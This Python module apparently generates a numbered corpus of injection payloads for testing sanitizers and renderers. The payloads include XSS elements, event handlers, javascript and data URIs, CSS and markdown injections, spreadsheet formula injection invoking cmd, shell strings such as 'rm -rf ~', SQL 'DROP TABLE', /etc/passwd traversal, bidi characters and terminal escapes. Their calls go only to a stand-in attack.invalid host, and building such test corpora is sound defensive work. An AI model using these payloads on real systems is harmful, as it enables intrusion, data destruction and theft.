"""Texts of our own making that try to be more than text, some hundreds, each with a number of its own.

What gets through calls `fire(number)` or asks for something at `number.attack.invalid`.
"""

import itertools

# What leaves the place that a text stands in: an element, an attribute, a comment, another language.
WAYS_OUT = ("", '">', "'>", "-->", "]]>", "</title>", "</textarea></style></script>",
            "</text></svg>", "</td></tr></table></p></main>", "\\\">", "`>", "&quot;&gt;",
            "</option></select></noscript></template>", "*/}</style>")

ELEMENTS = (
    "<script>fire({n})</script>", "<script src=//{n}.attack.invalid></script>",
    "<SCRIPT\n>fire({n})</sCrIpT >", "<img src=x onerror=fire({n})>",
    "<img/src='x'/onerror='fire({n})'/>", "<image href=x onerror=fire({n})>",
    "<img src=//{n}.attack.invalid/a.png>", "<img srcset='//{n}.attack.invalid/a 1x'>",
    "<svg onload=fire({n})>", "<svg/onload='fire({n})'/>", "<svg><script>fire({n})</script></svg>",
    "<svg><style>@import '//{n}.attack.invalid/s.css';</style></svg>",
    "<svg><image href='//{n}.attack.invalid/i.svg'></image></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=fire({n})/>#x'></use></svg>",
    "<svg><animate onbegin=fire({n}) attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:fire({n})></set><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.fire({n})</script>'></foreignObject></svg>",
    "<math><mtext><mglyph><style><img src onerror=fire({n})></style></mglyph></mtext></math>",
    "<iframe src='javascript:parent.fire({n})'></iframe>",
    "<iframe srcdoc='<script>parent.fire({n})</script>'></iframe>",
    "<iframe src='//{n}.attack.invalid/'></iframe>", "<object data='//{n}.attack.invalid/'></object>",
    "<embed src='//{n}.attack.invalid/'>", "<video><source onerror=fire({n})></video>",
    "<audio src=x onerror=fire({n})></audio>", "<video poster=//{n}.attack.invalid/p.png></video>",
    "<body onpageshow=fire({n})>", "<details open ontoggle=fire({n})>x</details>",
    "<input autofocus onfocus=fire({n})>", "<input type=image src=//{n}.attack.invalid/b.png>",
    "<select autofocus onfocus=fire({n})></select>", "<marquee onstart=fire({n})>x</marquee>",
    "<style>@import url(//{n}.attack.invalid/s.css);</style>",
    "<style>*{background:url(//{n}.attack.invalid/b.png)}</style>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=fire({n})>x</p>",
    "<p style='background:url(//{n}.attack.invalid/p.png)'>x</p>",
    "<link rel=stylesheet href=//{n}.attack.invalid/l.css>",
    "<link rel=prefetch href=//{n}.attack.invalid/l>", "<base href=//{n}.attack.invalid/>",
    "<meta http-equiv=refresh content='0;url=//{n}.attack.invalid/'>",
    "<form action=//{n}.attack.invalid/><button autofocus onfocus=fire({n})>x</button></form>",
    "<a href='javascript:fire({n})'>x</a>", "<a href=x ping=//{n}.attack.invalid/>x</a>",
    "<table background=//{n}.attack.invalid/t.png><tr><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=fire({n})>'></noscript>",
    "<!--><img src=x onerror=fire({n})>-->", "<![CDATA[><img src=x onerror=fire({n})>]]>",
    "<?xml version='1'?><img src=x onerror=fire({n})>", "<x contenteditable onfocus=fire({n}) autofocus>",
    "<template shadowrootmode=open><img src=x onerror=fire({n})></template>",
    "<img src=x one&#114;ror=fire({n}) onerror=fire({n})>", "<portal src=//{n}.attack.invalid/>",
    "<track src=//{n}.attack.invalid/t.vtt>", "<frameset onload=fire({n})>",
)

# Out of an attribute, without a new element.
HANDLERS = tuple(
    quote + space + handler + space + "x=" + quote
    for quote in ('"', "'", "`", "")
    for space in (" ", "\t", "/", "\n")
    for handler in ("onmouseover=fire({n})", "autofocus tabindex=1 onfocus=fire({n})"))

SCHEMES = ("javascript:fire({n})", "JaVaScRiPt:fire({n})", "java&#115;cript:fire({n})",
           "javascript&colon;fire({n})", "java&Tab;script:fire({n})", "\u0001javascript:fire({n})",
           "vbscript:fire({n})", "data:text/html,<script>fire({n})</script>",
           "data:text/html;base64,PHNjcmlwdD5maXJlKDEpPC9zY3JpcHQ+", "blob:x", "file:///etc/passwd",
           "//{n}.attack.invalid/", "\\\\{n}.attack.invalid\\x", "/etc/passwd", "../../../etc/passwd",
           "..%2f..%2fetc", "ms-settings:", "smb://{n}.attack.invalid", "view-source:x",
           "http:{n}.attack.invalid", "https:/\\{n}.attack.invalid", "index.html#x\"onclick=fire({n})",
           ".evenhold-manifest", "?x={n}", "%00", "%0d%0aX: y")
LINKS = ("[x]({s})", "[x](<{s}>)", "![x]({s})", "<{s}>", "[x][r{n}]\n\n[r{n}]: {s}", "{s}",
         '[x](https://a.org "{s}")', "[![x]({s})]({s})")

MARKDOWN = (
    "![x](https://{n}.attack.invalid/i.png)", "![x](http://192.0.2.1/{n}.png)",
    "[^{n}]: x\n\n[^{n}]", "[^\"><img src=x onerror=fire({n})>]: x", "```\"><script>fire({n})</script>\nx\n```",
    "| x | y |\n|---|---|\n| <script>fire({n})</script> | \" onload=fire({n}) |",
    "<div>\n<script>fire({n})</script>\n\n*x*\n</div>", "# <img src=x onerror=fire({n})>",
    "- [x] <svg onload=fire({n})>", "> <svg onload=fire({n})>", "`<script>fire({n})</script>`",
    "~~<script>fire({n})</script>~~", "https://a.org/\"onmouseover=fire({n})",
    "https://a.org/<script>fire({n})</script>", "<https://a.org/\"onmouseover=fire({n})>",
)

LANGUAGES = (
    "{{bodyHTML}} {{{bodyHTML}}} {{#nav}}{n}{{/nav}} {{> layout}}", "{{={n}= =}}",
    "[[nav-overview]] [[{n}]]", "{ $name } { NUMBER($x) } {n}", "${fire({n})} #{fire({n})} <%= fire({n}) %>",
    "\\\"},{\\\"metric\\\":\\\"{n}", "\"},{\"id\":\"{n}\"", "\\u003cscript\\u003efire({n})\\u003c/script\\u003e",
    "}*{background:url(//{n}.attack.invalid/)}", "red;background:url(//{n}.attack.invalid/)",
    "\\3c script\\3e {n}", "expression(fire({n}))", "%3Cscript%3Efire({n})%3C/script%3E",
    "&lt;script&gt;fire({n})&lt;/script&gt;", "&#60;script&#62;fire({n})&#60;/script&#62;",
    "%n%n%s%x{n}", "{n}; rm -rf ~", "$(touch {n})", "`touch {n}`", "'; DROP TABLE log; --{n}",
    "translate(999999 {n})", "url(#{n})", "\"/><text>{n}</text>", "m{n}' + 1 + '",
)

FORMULAS = tuple(
    before + formula for before in ("", " ", "\"", "'", "\u00a0")
    for formula in ("=HYPERLINK(\"//{n}.attack.invalid\",\"x\")", "+{n}+cmd|' /C calc'!A0",
                    "-{n}+1", "@SUM({n})", "\uff1d{n}+1", "\uff20{n}"))

# Characters that turn, hide or pile up what stands around them. All can be in a UTF-8 text.
CHARACTERS = (
    "\u202eevil\u202c{n}", "\u2066x\u2069\u2067y{n}", "a\u200fb\u200e{n}", "\u061c{n}", "\ufff9x\ufffa{n}\ufffb",
    "Z" + "\u0336\u0489\u0300" * 40 + "{n}", "\u200b\u200c\u200d\u2060{n}", "\u2028{n}\u2029x",
    "\U000e0041\U000e0042{n}", "\ufffd\ufdd0{n}", "\u0430\u0440\u0440\u04cf\u0435 {n}",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 {n}", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 {n}",
    "\uff1cscript\uff1efire({n})\uff1c/script\uff1e", "\u02bbonmouseover=fire({n})", "\u212a{n}\u0130\u0131\u017f",
    "e\u0301 \u00e9 {n}", "\ud7ff\ue000{n}", "\u3000{n}", "\u180e{n}", "\U0001f600" * 60 + "{n}",
    "W" * 300 + "{n}", "Wi " * 200 + "{n}", "\u00ad" * 50 + "{n}",
)

# What no text file may hold raw; YAML can write it as an escape.
CONTROLS = (
    "\x1b[31m{n}\x1b[0m", "\x1b]8;;http://{n}.attack.invalid\x1b\\x\x1b]8;;\x1b\\", "\x1b]0;{n}\x07",
    "\x1b[2J\x1b[H{n}", "\x9b31m{n}", "\x08\x08\x08{n}", "{n}\x7f", "\x00{n}", "<scr\x00ipt>fire({n})</scr\x00ipt>",
    "\x1bP{n}\x1b\\", "\x0c{n}\x0b", "java\x00script:fire({n})", "\x85{n}", "\x0e{n}\x0f", "\ufeff{n}",
    "\x1b[6n{n}", "\uffff{n}",
)


def _numbered(forms, start):
    return [form.replace("{n}", str(start + number)) for number, form in enumerate(forms)]


def texts():
    """Attacks that a UTF-8 text can hold, in an order that mixes their kinds."""
    elements = [way + element for way, element in itertools.product(WAYS_OUT, ELEMENTS)]
    links = [link.replace("{s}", scheme) for link, scheme in itertools.product(LINKS, SCHEMES)
             if "\u0001" not in scheme]
    others = [*HANDLERS, *MARKDOWN, *LANGUAGES, *FORMULAS, *CHARACTERS]
    found = _numbered(elements, 10000) + _numbered(links, 20000) + _numbered(others, 30000)
    # A step that shares no factor with the length visits each once.
    step = 271
    while not all(len(found) % factor or step % factor for factor in range(2, step + 1)):
        step += 2
    return [found[index * step % len(found)] for index in range(len(found))]


def controls():
    """Attacks with characters that only an escape can bring into a text."""
    return _numbered(CONTROLS, 40000) + _numbered(
        [scheme for scheme in SCHEMES if "\u0001" in scheme], 41000)


def one_line(text):
    """The same for a field of one line."""
    return " ".join(text.replace("\r", "\n").split("\n"))
